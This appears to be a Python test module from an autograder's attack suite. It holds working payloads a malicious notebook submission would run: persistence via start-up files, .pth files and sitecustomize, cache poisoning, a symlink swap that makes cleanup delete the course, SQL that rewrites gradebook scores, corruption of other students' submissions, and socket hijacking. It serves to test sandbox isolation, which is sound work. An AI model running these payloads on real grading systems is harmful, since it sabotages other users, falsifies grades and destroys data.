"""Leaving something behind for the next submission, the next run or the person who grades."""

from tests.attacks.attack import runs

_FAMILY = "poisoning"

_TRY = """
import os, pathlib, sys


def leave(path, text="# left by an attack\\n"):
    path = pathlib.Path(path)
    if path.is_relative_to(ROOT) and not os.path.exists(f"{ROOT}/settings.ini"):
        return False  # what is made there is no part of the course
    try:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
        return True
    except OSError:
        return False


"""


@runs(_FAMILY, base="gradient", shares=True)
def startup_files():
    """Start-up files of IPython, Python, Jupyter and shells, in every home that can be guessed."""
    return (
        _TRY
        + """
import pwd

homes = {HOME, os.path.expanduser("~"), "/root", *(entry.pw_dir for entry in pwd.getpwall())}
for home in homes:
    for place in (".ipython/profile_default/startup", ".jupyter", ".config/jupyter",
                  ".config/matplotlib", ".local/lib/python3.11/site-packages"):
        if os.path.isdir(home):
            leave(f"{home}/{place}/{MARK}.py")
"""
    )


@runs(_FAMILY, base="gradient", shares=True)
def caches():
    """matplotlib's list of fonts, which kernels share, and byte code of the course's modules."""
    return (
        _TRY
        + """
import glob, json, matplotlib

places = {matplotlib.get_cachedir(), matplotlib.get_configdir(), f"{ROOT}/build/fonts"}
for place in places:
    for path in glob.glob(f"{place}/fontlist-*.json"):
        leave(path, "{}")
    leave(f"{place}/{MARK}.json", "{}")
"""
    )


@runs(_FAMILY, base="gradient")
def temporary_files():
    """Files in every folder for temporary files, also unremovable ones."""
    return (
        _TRY
        + """
import tempfile

for place in ("/tmp", "/var/tmp", "/dev/shm", "/run/lock", tempfile.gettempdir(), "."):
    leave(f"{place}/{MARK}-left")
deep = pathlib.Path(f"{MARK}-deep")
deep.mkdir()
(deep / "inside").mkdir()
leave(deep / "inside" / "file")
os.symlink(ROOT, deep / "course")
os.symlink(HOME, deep / "home")
try:
    os.mkfifo(deep / "pipe")
except OSError:
    pass
os.chmod(deep / "inside", 0)
os.chmod(deep, 0)
"""
    )


@runs(_FAMILY, base="gradient")
def scratch_is_swapped_for_a_link():
    """The working folder becomes a link to the course, so that cleaning up deletes the course."""
    return """
        import os

        here = os.getcwd()
        for place in (here, os.path.dirname(here)):
            if os.path.dirname(place) == "/":
                continue  # not ours to rename, should there be no sandbox
            try:
                os.rename(place, f"{place}-{MARK}")
                os.symlink(f"{ROOT}/modules", place)
            except OSError:
                pass
    """


@runs(_FAMILY, base="gradient", shares=True)
def shared_memory_segments():
    """Segments and queues of POSIX and System V, which outlive their processes."""
    return """
        import ctypes
        from multiprocessing import resource_tracker, shared_memory

        try:
            segment = shared_memory.SharedMemory(name=f"{MARK}-segment", create=True, size=4096)
            resource_tracker.unregister(segment._name, "shared_memory")
            segment.close()
        except OSError:
            pass
        key = int(MARK.encode().hex()[-7:], 16)
        libc = ctypes.CDLL(None, use_errno=True)
        libc.shmget(key, 4096, 0o1666)
        libc.msgget(key, 0o1666)
    """


@runs(_FAMILY, base="gradient", shares=True)
def package_of_the_course():
    """The package that all students' kernels import, and the one that is installed."""
    return (
        _TRY
        + """
import tinytorch

for place in {os.path.dirname(tinytorch.__file__), f"{ROOT}/tinytorch",
              f"{ROOT}/build/package/08_optimizers/tinytorch"}:
    if leave(f"{place}/{MARK}.py") or os.access(f"{place}/__init__.py", os.W_OK):
        won("the package of the course can be written")
"""
    )


@runs(_FAMILY, base="gradient", shares=True)
def site_packages():
    """A .pth file and a module where Python looks first, for every later process."""
    return (
        _TRY
        + """
import site

for place in {*site.getsitepackages(), site.getusersitepackages(), *sys.path}:
    if place and os.path.isdir(place):
        for suffix in ("pth", "py"):
            if leave(f"{place}/{MARK}.{suffix}") and "site-packages" in place:
                won("site-packages can be written")
"""
    )


@runs(_FAMILY, base="gradient", shares=True)
def programs():
    """A program in a folder of the search path."""
    return (
        _TRY
        + """
for place in os.environ["PATH"].split(":") + [os.path.dirname(sys.executable)]:
    if os.path.isdir(place) and leave(f"{place}/{MARK}"):
        won("a folder of programs can be written")
        os.unlink(f"{place}/{MARK}")
"""
    )


@runs(_FAMILY, base="gradient", shares=True)
def gradebook_written():
    """Marks are entered into the gradebook, for this student and others."""
    return """
        import sqlite3

        try:
            book = sqlite3.connect(f"{ROOT}/gradebook.db", timeout=2)
            book.execute("update grade set auto_score = 1, manual_score = 150")
            book.execute("update assignment set duedate = '2001-01-01 00:00:00'")
            book.commit()
            won("the gradebook can be written")
        except sqlite3.Error:
            pass
    """


@runs(_FAMILY, base="gradient")
def gradebook_locked():
    """A process holds the gradebook's lock for some seconds after its notebook has ended."""
    return """
        import subprocess, sys

        hold = (
            "import sqlite3, sys, time; book = sqlite3.connect(sys.argv[1]); "
            "book.execute('begin exclusive'); time.sleep(12)"
        )
        subprocess.Popen(
            [sys.executable, "-c", hold, f"{ROOT}/gradebook.db", MARK], start_new_session=True,
            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
        )
        import time
        time.sleep(0.5)
    """


@runs(_FAMILY, base="gradient", shares=True)
def other_submissions_changed():
    """The submission of the next student is spoiled, and so is the one before."""
    return (
        _TRY
        + """
import glob

for path in glob.glob(f"{ROOT}/modules/submitted/*/*/*.ipynb"):
    if "attack" not in path and os.access(path, os.W_OK):
        leave(path, "{}")
        won("other submissions can be written")
for path in glob.glob(f"{ROOT}/modules/autograded/*/*/*.ipynb"):
    leave(path, "{}")
"""
    )


@runs(_FAMILY, base="gradient", shares=True)
def records_and_release_changed():
    """The release, the records of other students, and the log of the run."""
    return (
        _TRY
        + """
import glob

for pattern in ("release/*/*.ipynb", "records/*/*.json", "records/*/*.log", "feedback/*/*/*"):
    for path in glob.glob(f"{ROOT}/modules/{pattern}"):
        try:
            with open(path, "a") as file:
                file.write("\\n")
            won(f"modules/{pattern} can be written")
        except OSError:
            pass
"""
    )


@runs(_FAMILY, base="gradient", shares=True)
def course_changed():
    """The configuration, the sources and the notebooks that releases are made of."""
    return (
        _TRY
        + """
for name in ("nbgrader_config.py", "settings.ini",
             "modules/source/08_optimizers/optimizers_dev.py"):
    try:
        with open(f"{ROOT}/{name}", "a") as file:
            file.write("\\n")
        won(f"{name} can be written")
    except OSError:
        pass
leave(f"{ROOT}/{MARK}")
leave(f"{ROOT}/modules/{MARK}/08_optimizers/x")
leave(f"{ROOT}/modules/submitted/{MARK}/08_optimizers/optimizers_dev.ipynb")
"""
    )


@runs(_FAMILY, base="gradient")
def next_kernels_are_awaited():
    """A process that stays waits for the scratch folders of later kernels and writes into them."""
    return """
import os, subprocess, sys, tempfile

wait = '''
import glob, os, sys, time
end = time.monotonic() + 15
while time.monotonic() < end:
    for folder in glob.glob(sys.argv[1] + "/tito-*/site"):
        try:
            open(folder + "/sitecustomize.py", "a").write("\\n# " + sys.argv[2])
            open(folder + "/numpy.py", "w").write("raise ImportError")
        except OSError:
            pass
    time.sleep(0.02)
'''
for above in {os.path.dirname(ROOT) + "/tmp", os.path.dirname(tempfile.gettempdir()), "/tmp"}:
    subprocess.Popen([sys.executable, "-c", wait, above, MARK], start_new_session=True,
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
"""


@runs(_FAMILY, base="gradient", may_lose=True)
def connection_leads_elsewhere():
    """A server of the machine is to be reached by the number of the kernel's connection."""
    return """
        import os, socket, sys

        connection = sys.modules["tito_shell"].OUTPUTS._connection
        for address in (SOCKET, "\\0" + SOCKET):
            other = socket.socket(socket.AF_UNIX)
            try:
                other.connect(address)
            except OSError:
                continue
            os.dup2(other.fileno(), connection.fileno())
        try:
            connection.connect(SOCKET)
        except OSError:
            pass
        display({"text/plain": "x" * 13_000_000}, raw=True)
    """
